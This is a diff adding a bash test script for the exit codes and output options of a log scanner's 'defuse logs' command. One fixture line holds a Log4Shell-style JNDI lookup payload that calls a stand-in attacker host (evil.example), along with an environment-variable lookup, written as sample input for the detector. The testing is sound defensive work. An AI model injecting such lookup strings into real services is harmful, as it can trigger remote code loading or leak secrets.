@@ -1,0 +1,44 @@
+#!/usr/bin/env bash
+# logs_exit.sh -- exit status and output switches of `defuse logs`:
+# 0 clean, 1 findings, 2 errors (even with findings), -q prints nothing,
+# --kind filters (and decides the status), bad options exit 2, --help,
+# human output is defanged (no live "${", no "://"), colour only on request.
+source "$(dirname "$0")/logs_lib.bash"
+cd "$T"
+printf 'GET /a\nGET /b?tpl=${user.name}\n' > clean.log
+printf 'x ${jndi:ldap://evil.example/a}\ny ${env:USER}\n' > hit.log
+
+"$DEFUSE" logs clean.log > out.txt; expect_rc 0 $? "clean"
+[ -s out.txt ] && fail "clean output not empty" || ok "clean prints nothing"
+"$DEFUSE" logs hit.log > out.txt; expect_rc 1 $? "findings"
+expect_grep 'hit.log:1: jndi ldap[:]//evil[.]example/a' out.txt "human format file:line: kind callback"
+expect_nogrep '${' out.txt "no live \${ in human output"
+expect_nogrep '://' out.txt "no live :// in human output"
+"$DEFUSE" logs hit.log nothere.log > out.txt 2> err.txt; expect_rc 2 $? "findings + error = 2"
+expect_grep "nothere.log" err.txt "error names the file"
+"$DEFUSE" logs -q hit.log > out.txt; expect_rc 1 $? "-q with findings"
+[ -s out.txt ] && fail "-q printed something" || ok "-q prints nothing"
+"$DEFUSE" logs -q --summary hit.log > out.txt; expect_rc 1 $? "-q --summary"
+[ -s out.txt ] && fail "-q --summary printed something" || ok "-q beats --summary"
+"$DEFUSE" logs -q clean.log; expect_rc 0 $? "-q clean"
+"$DEFUSE" logs --kind=lookup hit.log > out.txt; expect_rc 1 $? "--kind=lookup"
+expect_nogrep ": jndi" out.txt "--kind=lookup hides jndi"
+expect_grep "hit.log:2: lookup" out.txt "--kind=lookup shows the lookup"
+"$DEFUSE" logs --kind=text4shell,recursion hit.log > out.txt; expect_rc 0 $? "--kind filter decides the status"
+"$DEFUSE" logs --kind=bogus hit.log 2> err.txt; expect_rc 2 $? "unknown kind"
+expect_grep "bogus" err.txt "unknown kind named"
+"$DEFUSE" logs --jobs=0 hit.log 2>/dev/null; expect_rc 2 $? "--jobs=0 rejected"
+"$DEFUSE" logs --max-line=abc hit.log 2>/dev/null; expect_rc 2 $? "--max-line=abc rejected"
+"$DEFUSE" logs --no-such-option hit.log 2>/dev/null; expect_rc 2 $? "unknown option"
+"$DEFUSE" logs --help > out.txt; expect_rc 0 $? "--help"
+expect_grep "EXIT STATUS" out.txt "help has an exit status section"
+expect_grep "--follow" out.txt "help documents --follow"
+"$DEFUSE" logs --color=always hit.log > out.txt
+grep -q $'\033\[' out.txt && ok "--color=always colours" || fail "--color=always"
+NO_COLOR=1 "$DEFUSE" logs hit.log > out.txt
+grep -q $'\033\[' out.txt && fail "colour on a pipe" || ok "no colour on a pipe"
+# several jobs give the same output as one
+for i in $(seq 1 20); do cp hit.log "h$i.log"; done
+"$DEFUSE" logs -j1 h*.log > one.txt; "$DEFUSE" logs -j2 h*.log > two.txt
+cmp -s one.txt two.txt && ok "-j2 output equals -j1 output, in order" || fail "-j2 differs from -j1"
+finish
